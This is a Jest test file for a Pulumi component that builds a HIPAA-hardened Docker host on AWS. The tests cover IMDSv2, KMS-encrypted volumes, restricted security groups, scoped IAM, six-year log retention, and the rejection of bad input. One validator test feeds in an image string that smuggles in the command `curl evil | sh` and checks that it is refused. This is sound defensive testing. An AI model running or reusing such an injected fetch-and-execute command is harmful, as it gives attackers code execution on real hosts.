// The daemon.json comes from hardenedDaemonConfig (lib/docker, tested there): a stand-in of the same
// shape keeps these tests and the snapshot about the host. hipaa-docker-host-daemon.test.ts runs the real one.
jest.mock('../../lib/docker/daemon-config', () => ({
  hardenedDaemonConfig: (o: { logging: { driver: string; options: Record<string, string> }; authorizationPlugins?: string[] }) => ({
    'userns-remap': 'default',
    'no-new-privileges': true,
    'icc': false,
    'live-restore': true,
    'log-driver': o.logging.driver,
    'log-opts': o.logging.options,
    ...(o.authorizationPlugins ? { 'authorization-plugins': o.authorizationPlugins } : {}),
  }),
}));

/* eslint-disable import/first */
import * as pulumi from '@pulumi/pulumi';
import { HipaaDockerHost, HipaaDockerHostArgs } from '../../lib/pulumi/hipaa-docker-host';
import { HipaaKmsKey } from '../../lib/pulumi/hipaa-kms-key';
import { SOON } from '../helpers/dates';
import { ACCOUNT, awsFindings, one, ofType, REGION, Registered, runProgram, valueOf } from '../helpers/pulumi';
import { KEY_ARN as KEY, stableSnapshot } from '../helpers/pulumi-fixtures';
/* eslint-enable import/first */

const VPC = 'vpc-0123456789abcdef0';
const SUBNETS = ['subnet-0123456789abcdef0', 'subnet-0123456789abcdef1'];
const ENDPOINTS_SG = 'sg-0123456789abcdef0';
const ALB_SG = 'sg-0fedcba9876543210';
const S3_PREFIX_LIST = 'pl-63a5400a';
const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
const PLUGIN_IMAGE = `openpolicyagent/opa-docker-authz-v2:0.10@${DIGEST}`;
const AUTHZ_WAIVER = {
  ruleId: 'docker-daemon-authorization-plugin',
  reason: 'Only the platform team reaches the socket through audited SSM sessions',
  expires: SOON,
  owner: 'platform@example.com',
  ticket: 'SEC-42',
};
const base: HipaaDockerHostArgs = {
  vpcId: VPC,
  subnetIds: SUBNETS,
  key: KEY,
  egress: { securityGroupIds: [ENDPOINTS_SG], prefixListIds: [S3_PREFIX_LIST] },
  ingress: [{ port: 8443, securityGroupIds: [ALB_SG], description: 'HTTPS from the load balancer' }],
  daemonWaivers: [AUTHZ_WAIVER],
};
const make = (args: Partial<HipaaDockerHostArgs>, name = 'docker') => () => new HipaaDockerHost(name, { ...base, ...args } as HipaaDockerHostArgs);
const decode = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');

describe('HipaaDockerHost', () => {
  let resources: Registered[];
  let host: HipaaDockerHost;
  beforeAll(async () => {
    resources = await runProgram(() => {
      host = new HipaaDockerHost('docker', { ...base, tags: { team: 'platform' } });
    });
  });

  test('registers the host and its parts (snapshot)', () => {
    const sorted = [...resources].sort((a, b) => `${a.type} ${a.name}`.localeCompare(`${b.type} ${b.name}`));
    // The user data (base64) is asserted on its own below, readable.
    const snapshot = stableSnapshot(sorted).map((r) => (r.inputs.userData ? { ...r, inputs: { ...r.inputs, userData: '<user data: see the user data tests>' } } : r));
    expect(snapshot).toMatchSnapshot();
    expect(resources.map((r) => r.type).sort()).toEqual([
      'aws:autoscaling/group:Group',
      'aws:cloudwatch/logGroup:LogGroup',
      'aws:cloudwatch/logGroup:LogGroup',
      'aws:ec2/launchTemplate:LaunchTemplate',
      'aws:ec2/securityGroup:SecurityGroup',
      'aws:iam/instanceProfile:InstanceProfile',
      'aws:iam/role:Role',
      'aws:iam/rolePolicy:RolePolicy',
      'hipaa-constructs:aws:DockerHost',
    ]);
  });

  test('the whole AWS pack finds nothing', () => {
    expect(awsFindings(resources)).toEqual([]);
  });

  test('launch template: IMDSv2 required with hop limit 1, no key pair, no public IP, the instance profile', () => {
    const lt = one(resources, 'aws:ec2/launchTemplate:LaunchTemplate');
    expect(lt.inputs.metadataOptions).toEqual({ httpEndpoint: 'enabled', httpTokens: 'required', httpPutResponseHopLimit: 1, instanceMetadataTags: 'disabled' });
    expect(lt.inputs.keyName).toBeUndefined();
    expect(lt.inputs.networkInterfaces).toEqual([{ deviceIndex: 0, associatePublicIpAddress: 'false', deleteOnTermination: 'true', securityGroups: ['docker-id'] }]);
    expect(lt.inputs.iamInstanceProfile).toEqual({ arn: `arn:aws:iam:${REGION}:${ACCOUNT}:iam/docker-host-a1b2c3d` });
    expect(lt.inputs.imageId).toBe('resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64');
    expect(lt.inputs.instanceType).toBe('m7i.large');
  });

  test('root volume: gp3, encrypted with the customer-managed key, kept when the instance terminates', () => {
    const lt = one(resources, 'aws:ec2/launchTemplate:LaunchTemplate');
    expect(lt.inputs.blockDeviceMappings).toEqual([{
      deviceName: '/dev/xvda',
      ebs: { encrypted: 'true', kmsKeyId: KEY, volumeType: 'gp3', volumeSize: 50, deleteOnTermination: 'false' },
    }]);
  });

  test('the daemon waiver is a tag on the launch template and what it launches, beside the user tags', () => {
    const lt = one(resources, 'aws:ec2/launchTemplate:LaunchTemplate');
    const value = `expires=${SOON} owner=platform@example.com ticket=SEC-42 reason=Only the platform team reaches the socket through audited SSM sessions`;
    expect(lt.inputs.tags).toEqual({ 'team': 'platform', 'hipaa-constructs.io/docker-waiver/docker-daemon-authorization-plugin': value });
    expect(lt.inputs.tagSpecifications).toEqual(['instance', 'volume', 'network-interface'].map((resourceType) => ({
      resourceType,
      tags: { 'team': 'platform', 'hipaa-constructs.io/docker-waiver/docker-daemon-authorization-plugin': value, 'Name': 'docker' },
    })));
  });

  test('security group: ingress only as declared, egress HTTPS only to the endpoints and the S3 prefix list', () => {
    const sg = one(resources, 'aws:ec2/securityGroup:SecurityGroup');
    expect(sg.inputs.vpcId).toBe(VPC);
    expect(sg.inputs.ingress).toEqual([{ protocol: 'tcp', fromPort: 8443, toPort: 8443, securityGroups: [ALB_SG], description: 'HTTPS from the load balancer' }]);
    expect(sg.inputs.egress).toEqual([{
      protocol: 'tcp',
      fromPort: 443,
      toPort: 443,
      securityGroups: [ENDPOINTS_SG],
      prefixListIds: [S3_PREFIX_LIST],
      description: 'HTTPS to VPC endpoints (SSM, CloudWatch Logs, ECR), S3 and the declared destinations',
    }]);
    expect(sg.inputs.tags).toEqual({ team: 'platform', Name: 'docker' });
  });

  test('log groups: under the key, kept six years, protected and retained on delete', () => {
    const groups = ofType(resources, 'aws:cloudwatch/logGroup:LogGroup');
    expect(groups.map((g) => [g.name, g.inputs.name, g.inputs.kmsKeyId, g.inputs.retentionInDays, g.protect, g.retainOnDelete])).toEqual([
      ['docker-host', '/hipaa-constructs/docker/host', KEY, 2192, true, true],
      ['docker-containers', '/hipaa-constructs/docker/containers', KEY, 2192, true, true],
    ]);
    expect(HipaaDockerHost.logGroupNames('docker')).toEqual({ host: '/hipaa-constructs/docker/host', containers: '/hipaa-constructs/docker/containers' });
  });

  test('IAM: trusted by EC2 only; the SSM agent without GetParameter, and writes into its own log groups only', () => {
    const role = one(resources, 'aws:iam/role:Role');
    expect(JSON.parse(role.inputs.assumeRolePolicy).Statement).toEqual([{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }]);
    expect(role.inputs.managedPolicyArns).toBeUndefined();
    expect(ofType(resources, 'aws:iam/rolePolicyAttachment:RolePolicyAttachment')).toEqual([]);
    const statements = JSON.parse(one(resources, 'aws:iam/rolePolicy:RolePolicy').inputs.policy).Statement;
    expect(statements.map((s: { Sid: string }) => s.Sid)).toEqual(['SsmAgent', 'SsmSessions', 'SsmRunCommand', 'OwnLogGroups']);
    const actions = statements.flatMap((s: { Action: string[] }) => s.Action);
    expect(actions.filter((a: string) => /^ssm:GetParameter|^kms:|^s3:|\*/.test(a))).toEqual([]);
    const logs = `arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/hipaa-constructs/docker`;
    expect(statements[3]).toEqual({
      Sid: 'OwnLogGroups',
      Effect: 'Allow',
      Action: ['logs:CreateLogStream', 'logs:DescribeLogStreams', 'logs:PutLogEvents'],
      Resource: [`${logs}/host`, `${logs}/host:log-stream:*`, `${logs}/containers`, `${logs}/containers:log-stream:*`],
    });
  });

  test('capacity by default: an Auto Scaling group of one across the subnets, on the template\'s latest version, after the log groups', () => {
    const asg = one(resources, 'aws:autoscaling/group:Group');
    expect(asg.inputs).toMatchObject({
      minSize: 1,
      maxSize: 1,
      desiredCapacity: 1,
      vpcZoneIdentifiers: SUBNETS,
      healthCheckType: 'EC2',
      launchTemplate: { id: 'docker-id', version: '1' },
    });
    expect(asg.inputs.tags).toEqual([{ key: 'team', value: 'platform', propagateAtLaunch: false }, { key: 'Name', value: 'docker', propagateAtLaunch: false }]);
    const order = resources.map((r) => r.name);
    expect(order.indexOf('docker-host')).toBeLessThan(order.lastIndexOf('docker'));
    expect(HipaaDockerHost.keyUsers('docker')).toEqual({ serviceLinkedRoleUsers: ['autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling'] });
    expect(HipaaDockerHost.keyUsers('docker', { capacity: { instance: true } })).toEqual({ serviceLinkedRoleUsers: [] });
  });

  test('user data: the launch template carries the script (base64), with daemon.json using the containers log group and region', async () => {
    const lt = one(resources, 'aws:ec2/launchTemplate:LaunchTemplate');
    const script = await valueOf(host.userData);
    expect(decode(lt.inputs.userData)).toBe(script);
    expect(await valueOf(host.daemonConfig)).toEqual({
      'userns-remap': 'default',
      'no-new-privileges': true,
      'icc': false,
      'live-restore': true,
      'log-driver': 'awslogs',
      'log-opts': { 'awslogs-group': '/hipaa-constructs/docker/containers', 'awslogs-region': REGION },
    });
    expect(script).toContain(`"awslogs-group": "/hipaa-constructs/docker/containers",\n    "awslogs-region": "${REGION}"`);
    expect(script).toContain('"log_group_name": "/hipaa-constructs/docker/host"');
    expect(script).not.toContain('docker plugin install');
  });

  test('capacity { instance: true }: one instance in the one subnet (from the template); with the authorization plugin', async () => {
    let single!: HipaaDockerHost;
    const out = await runProgram(() => {
      single = new HipaaDockerHost('clinic', {
        ...base,
        subnetIds: [SUBNETS[0]],
        capacity: { instance: true },
        daemonWaivers: undefined,
        authorizationPlugin: { image: PLUGIN_IMAGE },
        instanceType: 'm7g.large',
        rootVolumeSizeGiB: 100,
        deleteRootVolumeOnTermination: true,
      });
    });
    expect(awsFindings(out)).toEqual([]);
    expect(ofType(out, 'aws:autoscaling/group:Group')).toEqual([]);
    const instance = one(out, 'aws:ec2/instance:Instance');
    expect(instance.inputs.launchTemplate).toEqual({ id: 'clinic-id', version: '1' });
    expect(instance.inputs.keyName).toBeUndefined();
    expect(instance.inputs.associatePublicIpAddress).toBeUndefined();
    const lt = one(out, 'aws:ec2/launchTemplate:LaunchTemplate');
    expect(lt.inputs.networkInterfaces[0]).toEqual({ deviceIndex: 0, associatePublicIpAddress: 'false', deleteOnTermination: 'true', securityGroups: ['clinic-id'], subnetId: SUBNETS[0] });
    expect(lt.inputs.imageId).toBe('resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64');
    expect(lt.inputs.blockDeviceMappings[0].ebs).toEqual({ encrypted: 'true', kmsKeyId: KEY, volumeType: 'gp3', volumeSize: 100, deleteOnTermination: 'true' });
    expect(Object.keys(lt.inputs.tags ?? {}).filter((k) => k.includes('waiver'))).toEqual([]);
    expect((await valueOf(single.daemonConfig))['authorization-plugins']).toEqual(['opa-docker-authz']);
    expect(decode(lt.inputs.userData)).toContain(`docker plugin install --grant-all-permissions --alias opa-docker-authz '${PLUGIN_IMAGE}' opa-args='-policy-file /opa/policies/authz.rego'`);
  });

  test('a shorter log retention with a waiver of aws-log-group-retention: tagged on both log groups, nothing unwaived', async () => {
    const waiver = { ruleId: 'aws-log-group-retention', reason: 'Delivered daily to the WORM audit bucket kept six years', expires: SOON };
    const out = await runProgram(() => {
      new HipaaDockerHost('docker', { ...base, logRetentionInDays: 365, waivers: [waiver] });
    });
    for (const g of ofType(out, 'aws:cloudwatch/logGroup:LogGroup')) {
      expect(g.inputs.retentionInDays).toBe(365);
      expect(g.inputs.tags['hipaa-constructs.io/waiver/aws-log-group-retention']).toBe(`expires=${SOON} reason=Delivered daily to the WORM audit bucket kept six years`);
    }
    expect(awsFindings(out)).toEqual([]);
  });

  test('protect and retainOnDelete can be turned off for throw-away stacks', async () => {
    const out = await runProgram(() => {
      new HipaaDockerHost('docker', { ...base, protect: false, retainOnDelete: false });
    });
    expect(ofType(out, 'aws:cloudwatch/logGroup:LogGroup').map((g) => [g.protect, g.retainOnDelete])).toEqual([[false, false], [false, false]]);
  });

  test('with a HipaaKmsKey made as documented (keyUsers, the log groups for CloudWatch Logs) and ids as Outputs', async () => {
    let key!: HipaaKmsKey;
    const out = await runProgram(() => {
      key = new HipaaKmsKey('docker', {
        administrators: [`arn:aws:iam::${ACCOUNT}:role/key-admins`],
        ...HipaaDockerHost.keyUsers('docker'),
        servicePrincipals: { cloudWatchLogGroupArns: [`arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/hipaa-constructs/docker/*`] },
      });
      new HipaaDockerHost('docker', {
        ...base,
        key,
        vpcId: pulumi.output(VPC),
        subnetIds: pulumi.output(SUBNETS),
        imageId: 'ami-0123456789abcdef0',
        egress: { securityGroupIds: [pulumi.output(ENDPOINTS_SG)] },
      });
    });
    expect(awsFindings(out)).toEqual([]);
    const policy = JSON.parse(await valueOf(key.policy));
    expect(policy.Statement.find((st: { Sid: string }) => st.Sid === 'KeyUsers').Principal.AWS)
      .toContain(`arn:aws:iam::${ACCOUNT}:role/aws-service-role/autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling`);
    const lt = one(out, 'aws:ec2/launchTemplate:LaunchTemplate');
    expect(lt.inputs.imageId).toBe('ami-0123456789abcdef0');
    expect(lt.inputs.blockDeviceMappings[0].ebs.kmsKeyId).toBe(await valueOf(key.arn));
    expect(one(out, 'aws:autoscaling/group:Group').inputs.vpcZoneIdentifiers).toEqual(SUBNETS);
  });

  describe('refuses bad input with the field, the problem and the fix', () => {
    const at = "[HipaaDockerHost 'docker']";

    test('subnets: missing, empty, not ids, twice, several for one instance', () => {
      expect(make({ subnetIds: undefined })).toThrow(`${at} subnetIds: is missing; give the private subnets the host runs in (subnet-..., without a route to an internet gateway).`);
      expect(make({ subnetIds: [] })).toThrow(`${at} subnetIds: is empty; give the private subnets the host runs in (subnet-..., without a route to an internet gateway).`);
      expect(make({ subnetIds: 'subnet-0123456789abcdef0' as never })).toThrow(
        `${at} subnetIds: expected a list of subnet ids, got a string ("subnet-0123456789abcdef0"); give the private subnets the host runs in (subnet-..., without a route to an internet gateway).`,
      );
      expect(make({ subnetIds: ['subnet-1', SUBNETS[0], SUBNETS[0]] })).toThrow([
        `${at} 2 problems in the props (all are listed; fix each):`,
        "- subnetIds[0]: 'subnet-1' is not a subnet id (expected subnet- and 8 or 17 hex digits, e.g. subnet-0123456789abcdef0).",
        `- subnetIds[2]: '${SUBNETS[0]}' is given twice.`,
      ].join('\n'));
      expect(make({ capacity: { instance: true } })).toThrow(
        `${at} subnetIds: has 2 subnets, but capacity { instance: true } runs one instance in one subnet: give one subnet, or use capacity { min, max } for a group across them.`,
      );
    });

    test('vpcId and the key: missing or not what AWS takes', () => {
      expect(make({ vpcId: undefined as never })).toThrow(`${at} vpcId: is missing; give a VPC id such as vpc-0123456789abcdef0.`);
      expect(make({ vpcId: 'default' })).toThrow(`${at} vpcId: 'default' is not a VPC id such as vpc-0123456789abcdef0.`);
      expect(make({ key: undefined as never })).toThrow(
        `${at} key: is missing: give a HipaaKmsKey or a key ARN such as arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab (aws-ec2-launch-template-ebs-encryption).`,
      );
      expect(make({ key: 'alias/docker' })).toThrow(/^\[HipaaDockerHost 'docker'\] key: 'alias\/docker' is an alias name; give the key ARN .*\(aws-ec2-launch-template-ebs-encryption\)\.$/);
      expect(make({ key: 'arn:aws:s3:::phi-bucket' })).toThrow(/^\[HipaaDockerHost 'docker'\] key: .*Give a HipaaKmsKey or the ARN of a customer-managed key, e\.g\. arn:aws:kms:.*\(aws-ec2-launch-template-ebs-encryption\)\.$/);
    });

    test('ingress: the whole internet, SSH, the Docker API, no source, bad ports', () => {
      expect(make({ ingress: [{ port: 443, cidrBlocks: ['0.0.0.0/0'] }] })).toThrow(
        `${at} ingress[0].cidrBlocks[0]: '0.0.0.0/0' admits the whole internet; a PHI host takes connections only from named networks: give the load balancer's security group or your networks' CIDR blocks (aws-ec2-security-group-open-ingress).`,
      );
      expect(make({ ingress: [{ port: 443, cidrBlocks: ['10.0.0.0/16', '::/0'] }] })).toThrow(`${at} ingress[0].cidrBlocks[1]: '::/0' admits the whole internet;`);
      expect(make({ ingress: [{ port: 20, toPort: 25, cidrBlocks: ['10.0.0.0/16'] }] })).toThrow(
        `${at} ingress[0]: opens port 22, SSH: the host has no key pair and no SSH access; reach it through SSM Session Manager.`,
      );
      expect(make({ ingress: [{ port: 2376, cidrBlocks: ['10.0.0.0/16'] }] })).toThrow(
        `${at} ingress[0]: opens port 2376, the Docker Engine API: the daemon listens on its Unix socket only; run docker commands through SSM.`,
      );
      expect(make({ ingress: [{ port: 8080 }] })).toThrow(`${at} ingress[0]: names no source; give cidrBlocks or securityGroupIds (who may connect).`);
      expect(make({ ingress: [{ port: 0, toPort: 70000, protocol: 'icmp' as never, cidrBlocks: ['10.0.0.300/16'], securityGroupIds: ['alb'] }] })).toThrow([
        `${at} 5 problems in the props (all are listed; fix each):`,
        '- ingress[0].port: must be a whole number from 1 to 65535, got a number (0).',
        '- ingress[0].toPort: must be a whole number from 1 to 65535, got a number (70000).',
        "- ingress[0].protocol: a string (\"icmp\") is not 'tcp' or 'udp'.",
        '- ingress[0].cidrBlocks[0]: a string ("10.0.0.300/16") is not a CIDR block such as 10.0.0.0/16 or 2001:db8::/56.',
        "- ingress[0].securityGroupIds[0]: 'alb' is not a security group id such as sg-0123456789abcdef0.",
      ].join('\n'));
      expect(make({ ingress: { port: 443 } as never })).toThrow(`${at} ingress: expected a list, got an object (one item given where a list is expected: wrap it in [ ]).`);
    });

    test('egress: missing, empty, the whole internet, unknown fields', () => {
      const needs = 'the host needs HTTPS to SSM (ssm, ssmmessages, ec2messages), CloudWatch Logs and ECR (their VPC interface endpoints) and to S3 (the gateway endpoint\'s prefix list)';
      expect(make({ egress: undefined as never })).toThrow(`${at} egress: is missing; ${needs}: give egress.securityGroupIds, egress.prefixListIds or egress.cidrBlocks.`);
      expect(make({ egress: {} })).toThrow(`${at} egress: names no destination; ${needs}.`);
      expect(make({ egress: { cidrBlocks: ['0.0.0.0/0'] } })).toThrow(
        `${at} egress.cidrBlocks[0]: '0.0.0.0/0' lets the host send PHI anywhere on the internet; give the VPC endpoints' security group or subnets, the S3 prefix list, or a proxy's address.`,
      );
      expect(make({ egress: { cidrBlocks: ['10.0.0.0/16', '::/0'] } })).toThrow(`${at} egress.cidrBlocks[1]: '::/0' lets the host send PHI anywhere on the internet;`);
      expect(make({ egress: { prefixListIds: ['s3'], ports: [80] } as never })).toThrow([
        `${at} 2 problems in the props (all are listed; fix each):`,
        '- egress.ports: is not a field of egress; give cidrBlocks, securityGroupIds or prefixListIds.',
        "- egress.prefixListIds[0]: 's3' is not a prefix list id such as pl-63a5400a.",
      ].join('\n'));
    });

    test('capacity: neither shape, instance not true, bad counts, min above max, desired outside', () => {
      const shape = 'expected { instance: true } (one instance) or { min, max, desired? } (an Auto Scaling group)';
      expect(make({ capacity: 3 as never })).toThrow(`${at} capacity: ${shape}, got a number (3).`);
      expect(make({ capacity: { instance: false } as never })).toThrow(`${at} capacity: ${shape}; { instance } takes only instance: true, got {"instance":false}.`);
      expect(make({ capacity: { instance: true, min: 1 } as never })).toThrow(`${at} capacity: ${shape}; { instance } takes only instance: true, got {"instance":true,"min":1}.`);
      expect(make({ capacity: { min: -1, max: 1.5 } })).toThrow([
        `${at} 2 problems in the props (all are listed; fix each):`,
        '- capacity.min: must be a whole number from 0 to 100, got a number (-1).',
        '- capacity.max: must be a whole number from 1 to 100, got a number (1.5).',
      ].join('\n'));
      expect(make({ capacity: { min: 3, max: 2 } })).toThrow(`${at} capacity.min: is 3, more than max 2.`);
      expect(make({ capacity: { min: 1, max: 2, desired: 5 } })).toThrow(`${at} capacity.desired: is 5; it must be between min 1 and max 2.`);
      expect(make({ capacity: { min: 1, max: 2, size: 2 } as never })).toThrow(`${at} capacity: ${shape}; unknown field 'size'.`);
    });

    test('log retention: a value CloudWatch does not take; under six years without a waiver; a waiver of a rule the host does not write', () => {
      expect(make({ logRetentionInDays: 2000 })).toThrow(
        `${at} logRetentionInDays: a number (2000) is not a retention CloudWatch Logs accepts; use 2192 (six years), 2557, 2922, 3288, 3653 or 0 (never expire) (aws-log-group-retention).`,
      );
      expect(make({ logRetentionInDays: 365 })).toThrow(
        `${at} logRetentionInDays: is 365 days, less than six years (2192): the host's audit and Docker logs must be kept six years; use 2192 or more, or waive aws-log-group-retention in waivers with a reason and expires (aws-log-group-retention).`,
      );
      expect(make({ waivers: [{ ruleId: 'aws-ec2-launch-template-imdsv2', reason: 'Legacy agent needs IMDSv1 until replaced', expires: SOON }] })).toThrow(
        `${at} waivers[0]: waives 'aws-ec2-launch-template-imdsv2', but HipaaDockerHost writes nothing that rule flags; it takes waivers of aws-log-group-retention (logRetentionInDays) only.`,
      );
    });

    test('authorization: neither a plugin nor a waiver; a plugin by tag; a waiver beside the plugin; a waiver of another daemon rule', () => {
      expect(make({ daemonWaivers: undefined })).toThrow(
        `${at} authorizationPlugin: is missing: without an authorization plugin anyone who reaches the Docker socket can start a privileged container and own the host (CIS 2.12). ` +
        'Give authorizationPlugin.image (openpolicyagent/opa-docker-authz-v2 pinned by digest), or waive docker-daemon-authorization-plugin in daemonWaivers with a reason and expires (docker-daemon-authorization-plugin).',
      );
      expect(make({ daemonWaivers: undefined, authorizationPlugin: { image: 'openpolicyagent/opa-docker-authz-v2:0.10' } })).toThrow(
        `${at} authorizationPlugin.image: 'openpolicyagent/opa-docker-authz-v2:0.10' is not pinned by digest: a tag can be moved to another build, and the plugin runs as root in the daemon's request path; append @sha256:<digest> of the build you have verified.`,
      );
      expect(make({ daemonWaivers: undefined, authorizationPlugin: { image: `opa'; curl evil | sh; '@${DIGEST}` } })).toThrow(
        `${at} authorizationPlugin.image: expected the plugin reference pinned by digest, e.g. openpolicyagent/opa-docker-authz-v2:0.10@sha256:<64 hex digits>, got a string ("opa'; curl evil | sh; '@sha256:012345678...").`,
      );
      expect(make({ authorizationPlugin: { image: PLUGIN_IMAGE } })).toThrow(
        `${at} daemonWaivers[0]: waives docker-daemon-authorization-plugin, but authorizationPlugin installs one; remove the waiver.`,
      );
      expect(make({ daemonWaivers: [{ ...AUTHZ_WAIVER, ruleId: 'docker-daemon-userns-remap' }] })).toThrow(
        `${at} 2 problems in the props (all are listed; fix each):\n` +
        "- daemonWaivers[0]: ruleId 'docker-daemon-userns-remap' is not a known rule; HipaaDockerHost's daemon.json meets every other daemon rule, so only docker-daemon-authorization-plugin can be waived (waiver-invalid).\n" +
        '- authorizationPlugin: is missing:',
      );
      expect(make({ daemonWaivers: [{ ...AUTHZ_WAIVER, reason: 'ok' }] })).toThrow(/^\[HipaaDockerHost 'docker'\] daemonWaivers\[0\]: reason .*\(waiver-invalid\)\.$/);
    });

    test('name, instance type, image, root volume, tags', () => {
      expect(make({}, 'Docker Host')).toThrow("[HipaaDockerHost 'Docker Host'] name: 'Docker Host' must be 1 to 40 lower-case letters, digits and '-' (it names the log groups, the role and the tags).");
      expect(make({ instanceType: 'large', imageId: 'ubuntu', rootDeviceName: 'xvda', rootVolumeSizeGiB: 8, deleteRootVolumeOnTermination: 'yes' as never, tags: { team: 1 as never } })).toThrow([
        `${at} 6 problems in the props (all are listed; fix each):`,
        "- instanceType: a string (\"large\") is not an EC2 instance type (expected e.g. 'm7i.large').",
        '- imageId: a string ("ubuntu") is neither an AMI id (ami-...) nor resolve:ssm:<parameter>; leave it out for the latest Amazon Linux 2023.',
        '- rootDeviceName: a string ("xvda") is not a device name such as /dev/xvda (the AMI\'s root device, which the encrypted volume replaces).',
        '- rootVolumeSizeGiB: must be a whole number of GiB from 30 to 16384 (gp3; /var/lib/docker lives on it), got a number (8).',
        '- deleteRootVolumeOnTermination: expected true or false, got a string ("yes").',
        '- tags.team: expected a string, got a number (1).',
      ].join('\n'));
      expect(() => new HipaaDockerHost('docker', null as never)).toThrow("[HipaaDockerHost 'docker'] args: expected an object with vpcId, subnetIds, key and egress, got null.");
    });
  });
});
